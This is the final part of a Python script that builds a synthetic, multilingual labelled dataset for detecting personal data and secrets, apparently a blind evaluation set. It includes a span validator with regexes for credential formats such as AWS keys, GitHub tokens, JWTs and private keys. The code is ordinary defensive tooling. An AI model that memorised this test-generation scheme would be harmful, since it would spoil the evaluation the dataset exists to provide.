    ("pt_chat_operadora", k_pt_operadora, 0.9), ("nl_storingsmelding", k_nl_storing, 0.9), ("pl_zgloszenie", k_pl_zgloszenie, 0.8),
    ("ja_helpdesk", k_ja_helpdesk, 0.7),
    ("reset_chat_de", lambda r: k_reset_chat(r, "de"), 0.7), ("reset_chat_fr", lambda r: k_reset_chat(r, "fr"), 0.6),
    ("reset_chat_es", lambda r: k_reset_chat(r, "es"), 0.6), ("reset_chat_it", lambda r: k_reset_chat(r, "it"), 0.5),
    ("reset_chat_pt", lambda r: k_reset_chat(r, "pt"), 0.5), ("reset_chat_nl", lambda r: k_reset_chat(r, "nl"), 0.5),
]
NEG_KINDS = [
    ("neg_syslog", n_syslog, 1.0, "en"), ("neg_ci_log_masked", n_ci_log, 1.0, "en"), ("neg_terraform_refs", n_terraform_refs, 0.9, "en"),
    ("neg_change_ticket", n_change_ticket, 0.9, "en"), ("neg_dependency_scan", n_vuln_summary, 0.8, "en"), ("neg_payment_recon", n_payment_recon, 0.9, "en"),
    ("neg_fleet_register", n_fleet_assets, 0.8, "en"), ("neg_k8s_events", n_k8s_events, 0.8, "en"), ("neg_dlp_false_positives", n_dlp_fp, 0.9, "en"),
    ("neg_pet_ticket", n_pet_ticket, 0.6, "en"), ("neg_ioc_hashes", n_ioc_hashes, 0.7, "en"),
    ("neg_de_wartung", n_de_wartung, 0.9, "de"), ("neg_fr_deploiement", n_fr_deploy, 0.8, "fr"), ("neg_es_runbook", n_es_runbook, 0.7, "es"),
]
KIND_LANG = {k: "en" for k, _, _ in EN_KINDS}
KIND_LANG.update({k: k.split("_")[0] if not k.startswith("reset_chat") else k.rsplit("_", 1)[1] for k, _, _ in XX_KINDS})
KIND_LANG.update({k: lg for k, _, _, lg in NEG_KINDS})

P_NEG = 0.12
P_NON_EN_POS = 0.226  # share of all documents; with the non-English negatives -> ~25% non-English overall
_PHI = 0.6180339887498949


def _pick(rng, kinds):
    tot = sum(k[2] for k in kinds)
    r = rng.random() * tot
    for k in kinds:
        r -= k[2]
        if r <= 0:
            return k
    return kinds[-1]


def _make(seed, i):
    rng = random.Random(f"blind37|{seed}|{i}")
    # Low-discrepancy stratification keeps the negative / non-English shares close to
    # their targets in every window of documents (still a pure function of seed and i).
    u = ((i + 1) * _PHI + random.Random(f"blind37-offset|{seed}").random()) % 1.0
    if u < P_NEG:
        kind = _pick(rng, NEG_KINDS)
    elif u < P_NEG + P_NON_EN_POS:
        kind = _pick(rng, XX_KINDS)
    else:
        kind = _pick(rng, EN_KINDS)
    name, fn = kind[0], kind[1]
    b = fn(rng)
    text = b.text()
    ents = sorted(b.ents)
    doc = {"id": f"blind37-{seed}-{i:06d}", "text": text,
           "entities": [{"start": s, "end": e, "type": t} for s, e, t in ents]}
    return name, doc


def generate(n, seed=0):
    """Yield n labelled documents; document i depends only on (seed, i)."""
    for i in range(n):
        yield _make(seed, i)[1]


# ---------------------------------------------------------------------------
# Validation / CLI
# ---------------------------------------------------------------------------

SECRET_TYPES = {"AWS_ACCESS_KEY", "AWS_SECRET_KEY", "GITHUB_TOKEN", "SLACK_TOKEN", "STRIPE_KEY", "JWT", "PRIVATE_KEY", "PASSWORD", "GENERIC_SECRET"}
_RX_EMAIL = re.compile(r"[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}")
_RX_URL = re.compile(r"https?://[^\s\"'<>|)\]]+")
_RX_IP4 = re.compile(r"(?<![\w./])(?:(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.){3}(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(?![\w.]\d|\w)")
_RX_SECRETS = re.compile(r"AKIA[A-Z2-7]{16}|ASIA[A-Z2-7]{16}|gh[pousr]_[A-Za-z0-9]{36}|github_pat_\w{80,}|xox[bpa]-[\w-]{20,}|xapp-[\w-]{20,}|"
                         r"[sr]k_live_[A-Za-z0-9]{20,}|eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+|-----BEGIN [A-Z ]*PRIVATE KEY-----")
_RX_CC = re.compile(r"(?<![\w-])(?:\d{4}[ -]?){3}\d{4}(?![\w-])|(?<![\w-])3[47]\d{2}[ -]?\d{6}[ -]?\d{5}(?![\w-])")
_RX_SSN = re.compile(r"(?<![\d-])\d{3}-\d{2}-\d{4}(?![\d-])")


def _covered(ents, s, e):
    return any(a < e and s < b_ for a, b_, _ in ents)


def validate(doc):
    errs = []
    text = doc["text"]
    prev_end = -1
    ents = []
    for en in doc["entities"]:
        s, e, t = en["start"], en["end"], en["type"]
        span = text[s:e] if 0 <= s < e <= len(text) else None
        if span is None:
            errs.append(f"out of range/empty {en}")
            continue
        if t not in TYPESET:
            errs.append(f"bad type {t}")
        if span != span.strip():
            errs.append(f"whitespace at edge {t} {span!r}")
        if s < prev_end:
            errs.append(f"overlap at {s}")
        prev_end = e
        ents.append((s, e, t))
        if t == "CREDIT_CARD":
            d = re.sub(r"[ -]", "", span)
            if not (d.isdigit() and 13 <= len(d) <= 19 and luhn_ok(d)):
                errs.append(f"bad card {span!r}")
        elif t == "IBAN_CODE" and not iban_ok(span):
            errs.append(f"bad iban {span!r}")
        elif t == "US_SSN" and not ssn_ok(span):
            errs.append(f"bad ssn {span!r}")
        elif t == "AWS_SECRET_KEY" and len(span) != 40:
            errs.append(f"bad aws secret length {span!r}")
        elif t == "PRIVATE_KEY" and not (span.startswith("-----BEGIN") and span.endswith("-----")):
            errs.append(f"bad pem {span[:30]!r}")
        if t not in SECRET_TYPES and t not in ("URL",):
            if span[-1] in ".,;:" or span[0] in "\"'<[" or (span[0] == "(" and t != "PHONE_NUMBER"):
                errs.append(f"punctuation at edge {t} {span!r}")
        if t == "PERSON" and re.match(r"(Dr|Mr|Mrs|Ms|Sra|Sr|Herr|Frau|Mme|M|Dott|Sig)\.?\s", span):
            errs.append(f"title inside PERSON {span!r}")
    # Leak checks: things that must always be labelled.
    for rx, what in ((_RX_EMAIL, "email"), (_RX_URL, "url"), (_RX_IP4, "ipv4"), (_RX_SECRETS, "secret")):
        for m in rx.finditer(text):
            if not _covered(ents, m.start(), m.end()):
                errs.append(f"unlabelled {what}: {m.group(0)[:60]!r}")
    for m in _RX_CC.finditer(text):
        if luhn_ok(m.group(0)) and not _covered(ents, m.start(), m.end()):
            errs.append(f"unlabelled Luhn-valid number {m.group(0)!r}")
    for m in _RX_SSN.finditer(text):
        if ssn_ok(m.group(0)) and not _covered(ents, m.start(), m.end()):
            errs.append(f"unlabelled valid SSN {m.group(0)!r}")
    return errs


def _check(n=2000, seed=0):
    counts = Counter()
    kinds = Counter()
    langs = Counter()
    empty = 0
    bad = 0
    ids = set()
    for i in range(n):
        name, doc = _make(seed, i)
        again = _make(seed, i)[1]
        assert again == doc, f"doc {i} not deterministic"
        assert doc["id"] not in ids
        ids.add(doc["id"])
        kinds[name] += 1
        langs[KIND_LANG[name]] += 1
        if not doc["entities"]:
            empty += 1
            if not name.startswith("neg_"):
                print(f"WARNING: positive kind {name} produced no entity ({doc['id']})")
        elif name.startswith("neg_"):
            bad += 1
            print(f"ERROR {doc['id']} ({name}): negative kind has entities")
        for en in doc["entities"]:
            counts[en["type"]] += 1
        errs = validate(doc)
        if errs:
            bad += 1
            for e in errs[:5]:
                print(f"ERROR {doc['id']} ({name}): {e}")
    # the public API must match the internal generator
    for k, d in enumerate(generate(3, seed)):
        assert d == _make(seed, k)[1]
    print(f"documents: {n}   kinds available: {len(EN_KINDS) + len(XX_KINDS) + len(NEG_KINDS)} "
          f"(en {len(EN_KINDS)}, non-en {len(XX_KINDS)}, negative {len(NEG_KINDS)})   kinds seen: {len(kinds)}")
    print(f"no-entity documents: {empty} ({100 * empty / n:.1f}%)   non-English: {n - langs['en']} ({100 * (n - langs['en']) / n:.1f}%)")
    print("languages: " + ", ".join(f"{k}={v}" for k, v in sorted(langs.items())))
    print(f"entities: {sum(counts.values())}")
    for t in TYPES:
        print(f"  {t:<22}{counts[t]:>6}")
    missing = [t for t in TYPES if counts[t] == 0]
    if missing:
        print("ERROR: types never produced:", missing)
        bad += 1
    if bad:
        print(f"FAILED: {bad} problem documents")
        return 1
    print("OK")
    return 0


def _sample(k, seed=0):
    for i in range(k):
        name, doc = _make(seed, i)
        print("=" * 78)
        print(f"{doc['id']}  kind={name}  lang={KIND_LANG[name]}  entities={len(doc['entities'])}")
        print("-" * 78)
        print(doc["text"])
        print("-" * 78)
        for en in doc["entities"]:
            span = doc["text"][en["start"]:en["end"]]
            print(f"  [{en['type']}] {en['start']}-{en['end']} {span if len(span) < 90 else span[:87] + '...'!r}")
    return 0


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--check", action="store_true", help="generate 2000 docs and validate all spans")
    ap.add_argument("--sample", type=int, metavar="K", help="print K documents with their labelled spans")
    ap.add_argument("--n", type=int, default=None, help="number of documents to write")
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--output", metavar="F.jsonl", help="write JSONL here (default: stdout)")
    a = ap.parse_args(argv)
    if a.check:
        return _check(2000, a.seed)
    if a.sample:
        return _sample(a.sample, a.seed)
    if a.n is not None:
        out = open(a.output, "w", encoding="utf-8") if a.output else sys.stdout
        try:
            for d in generate(a.n, a.seed):
                out.write(json.dumps(d, ensure_ascii=False) + "\n")
        finally:
            if a.output:
                out.close()
        return 0
    ap.print_help()
    return 0


if __name__ == "__main__":
    sys.exit(main())
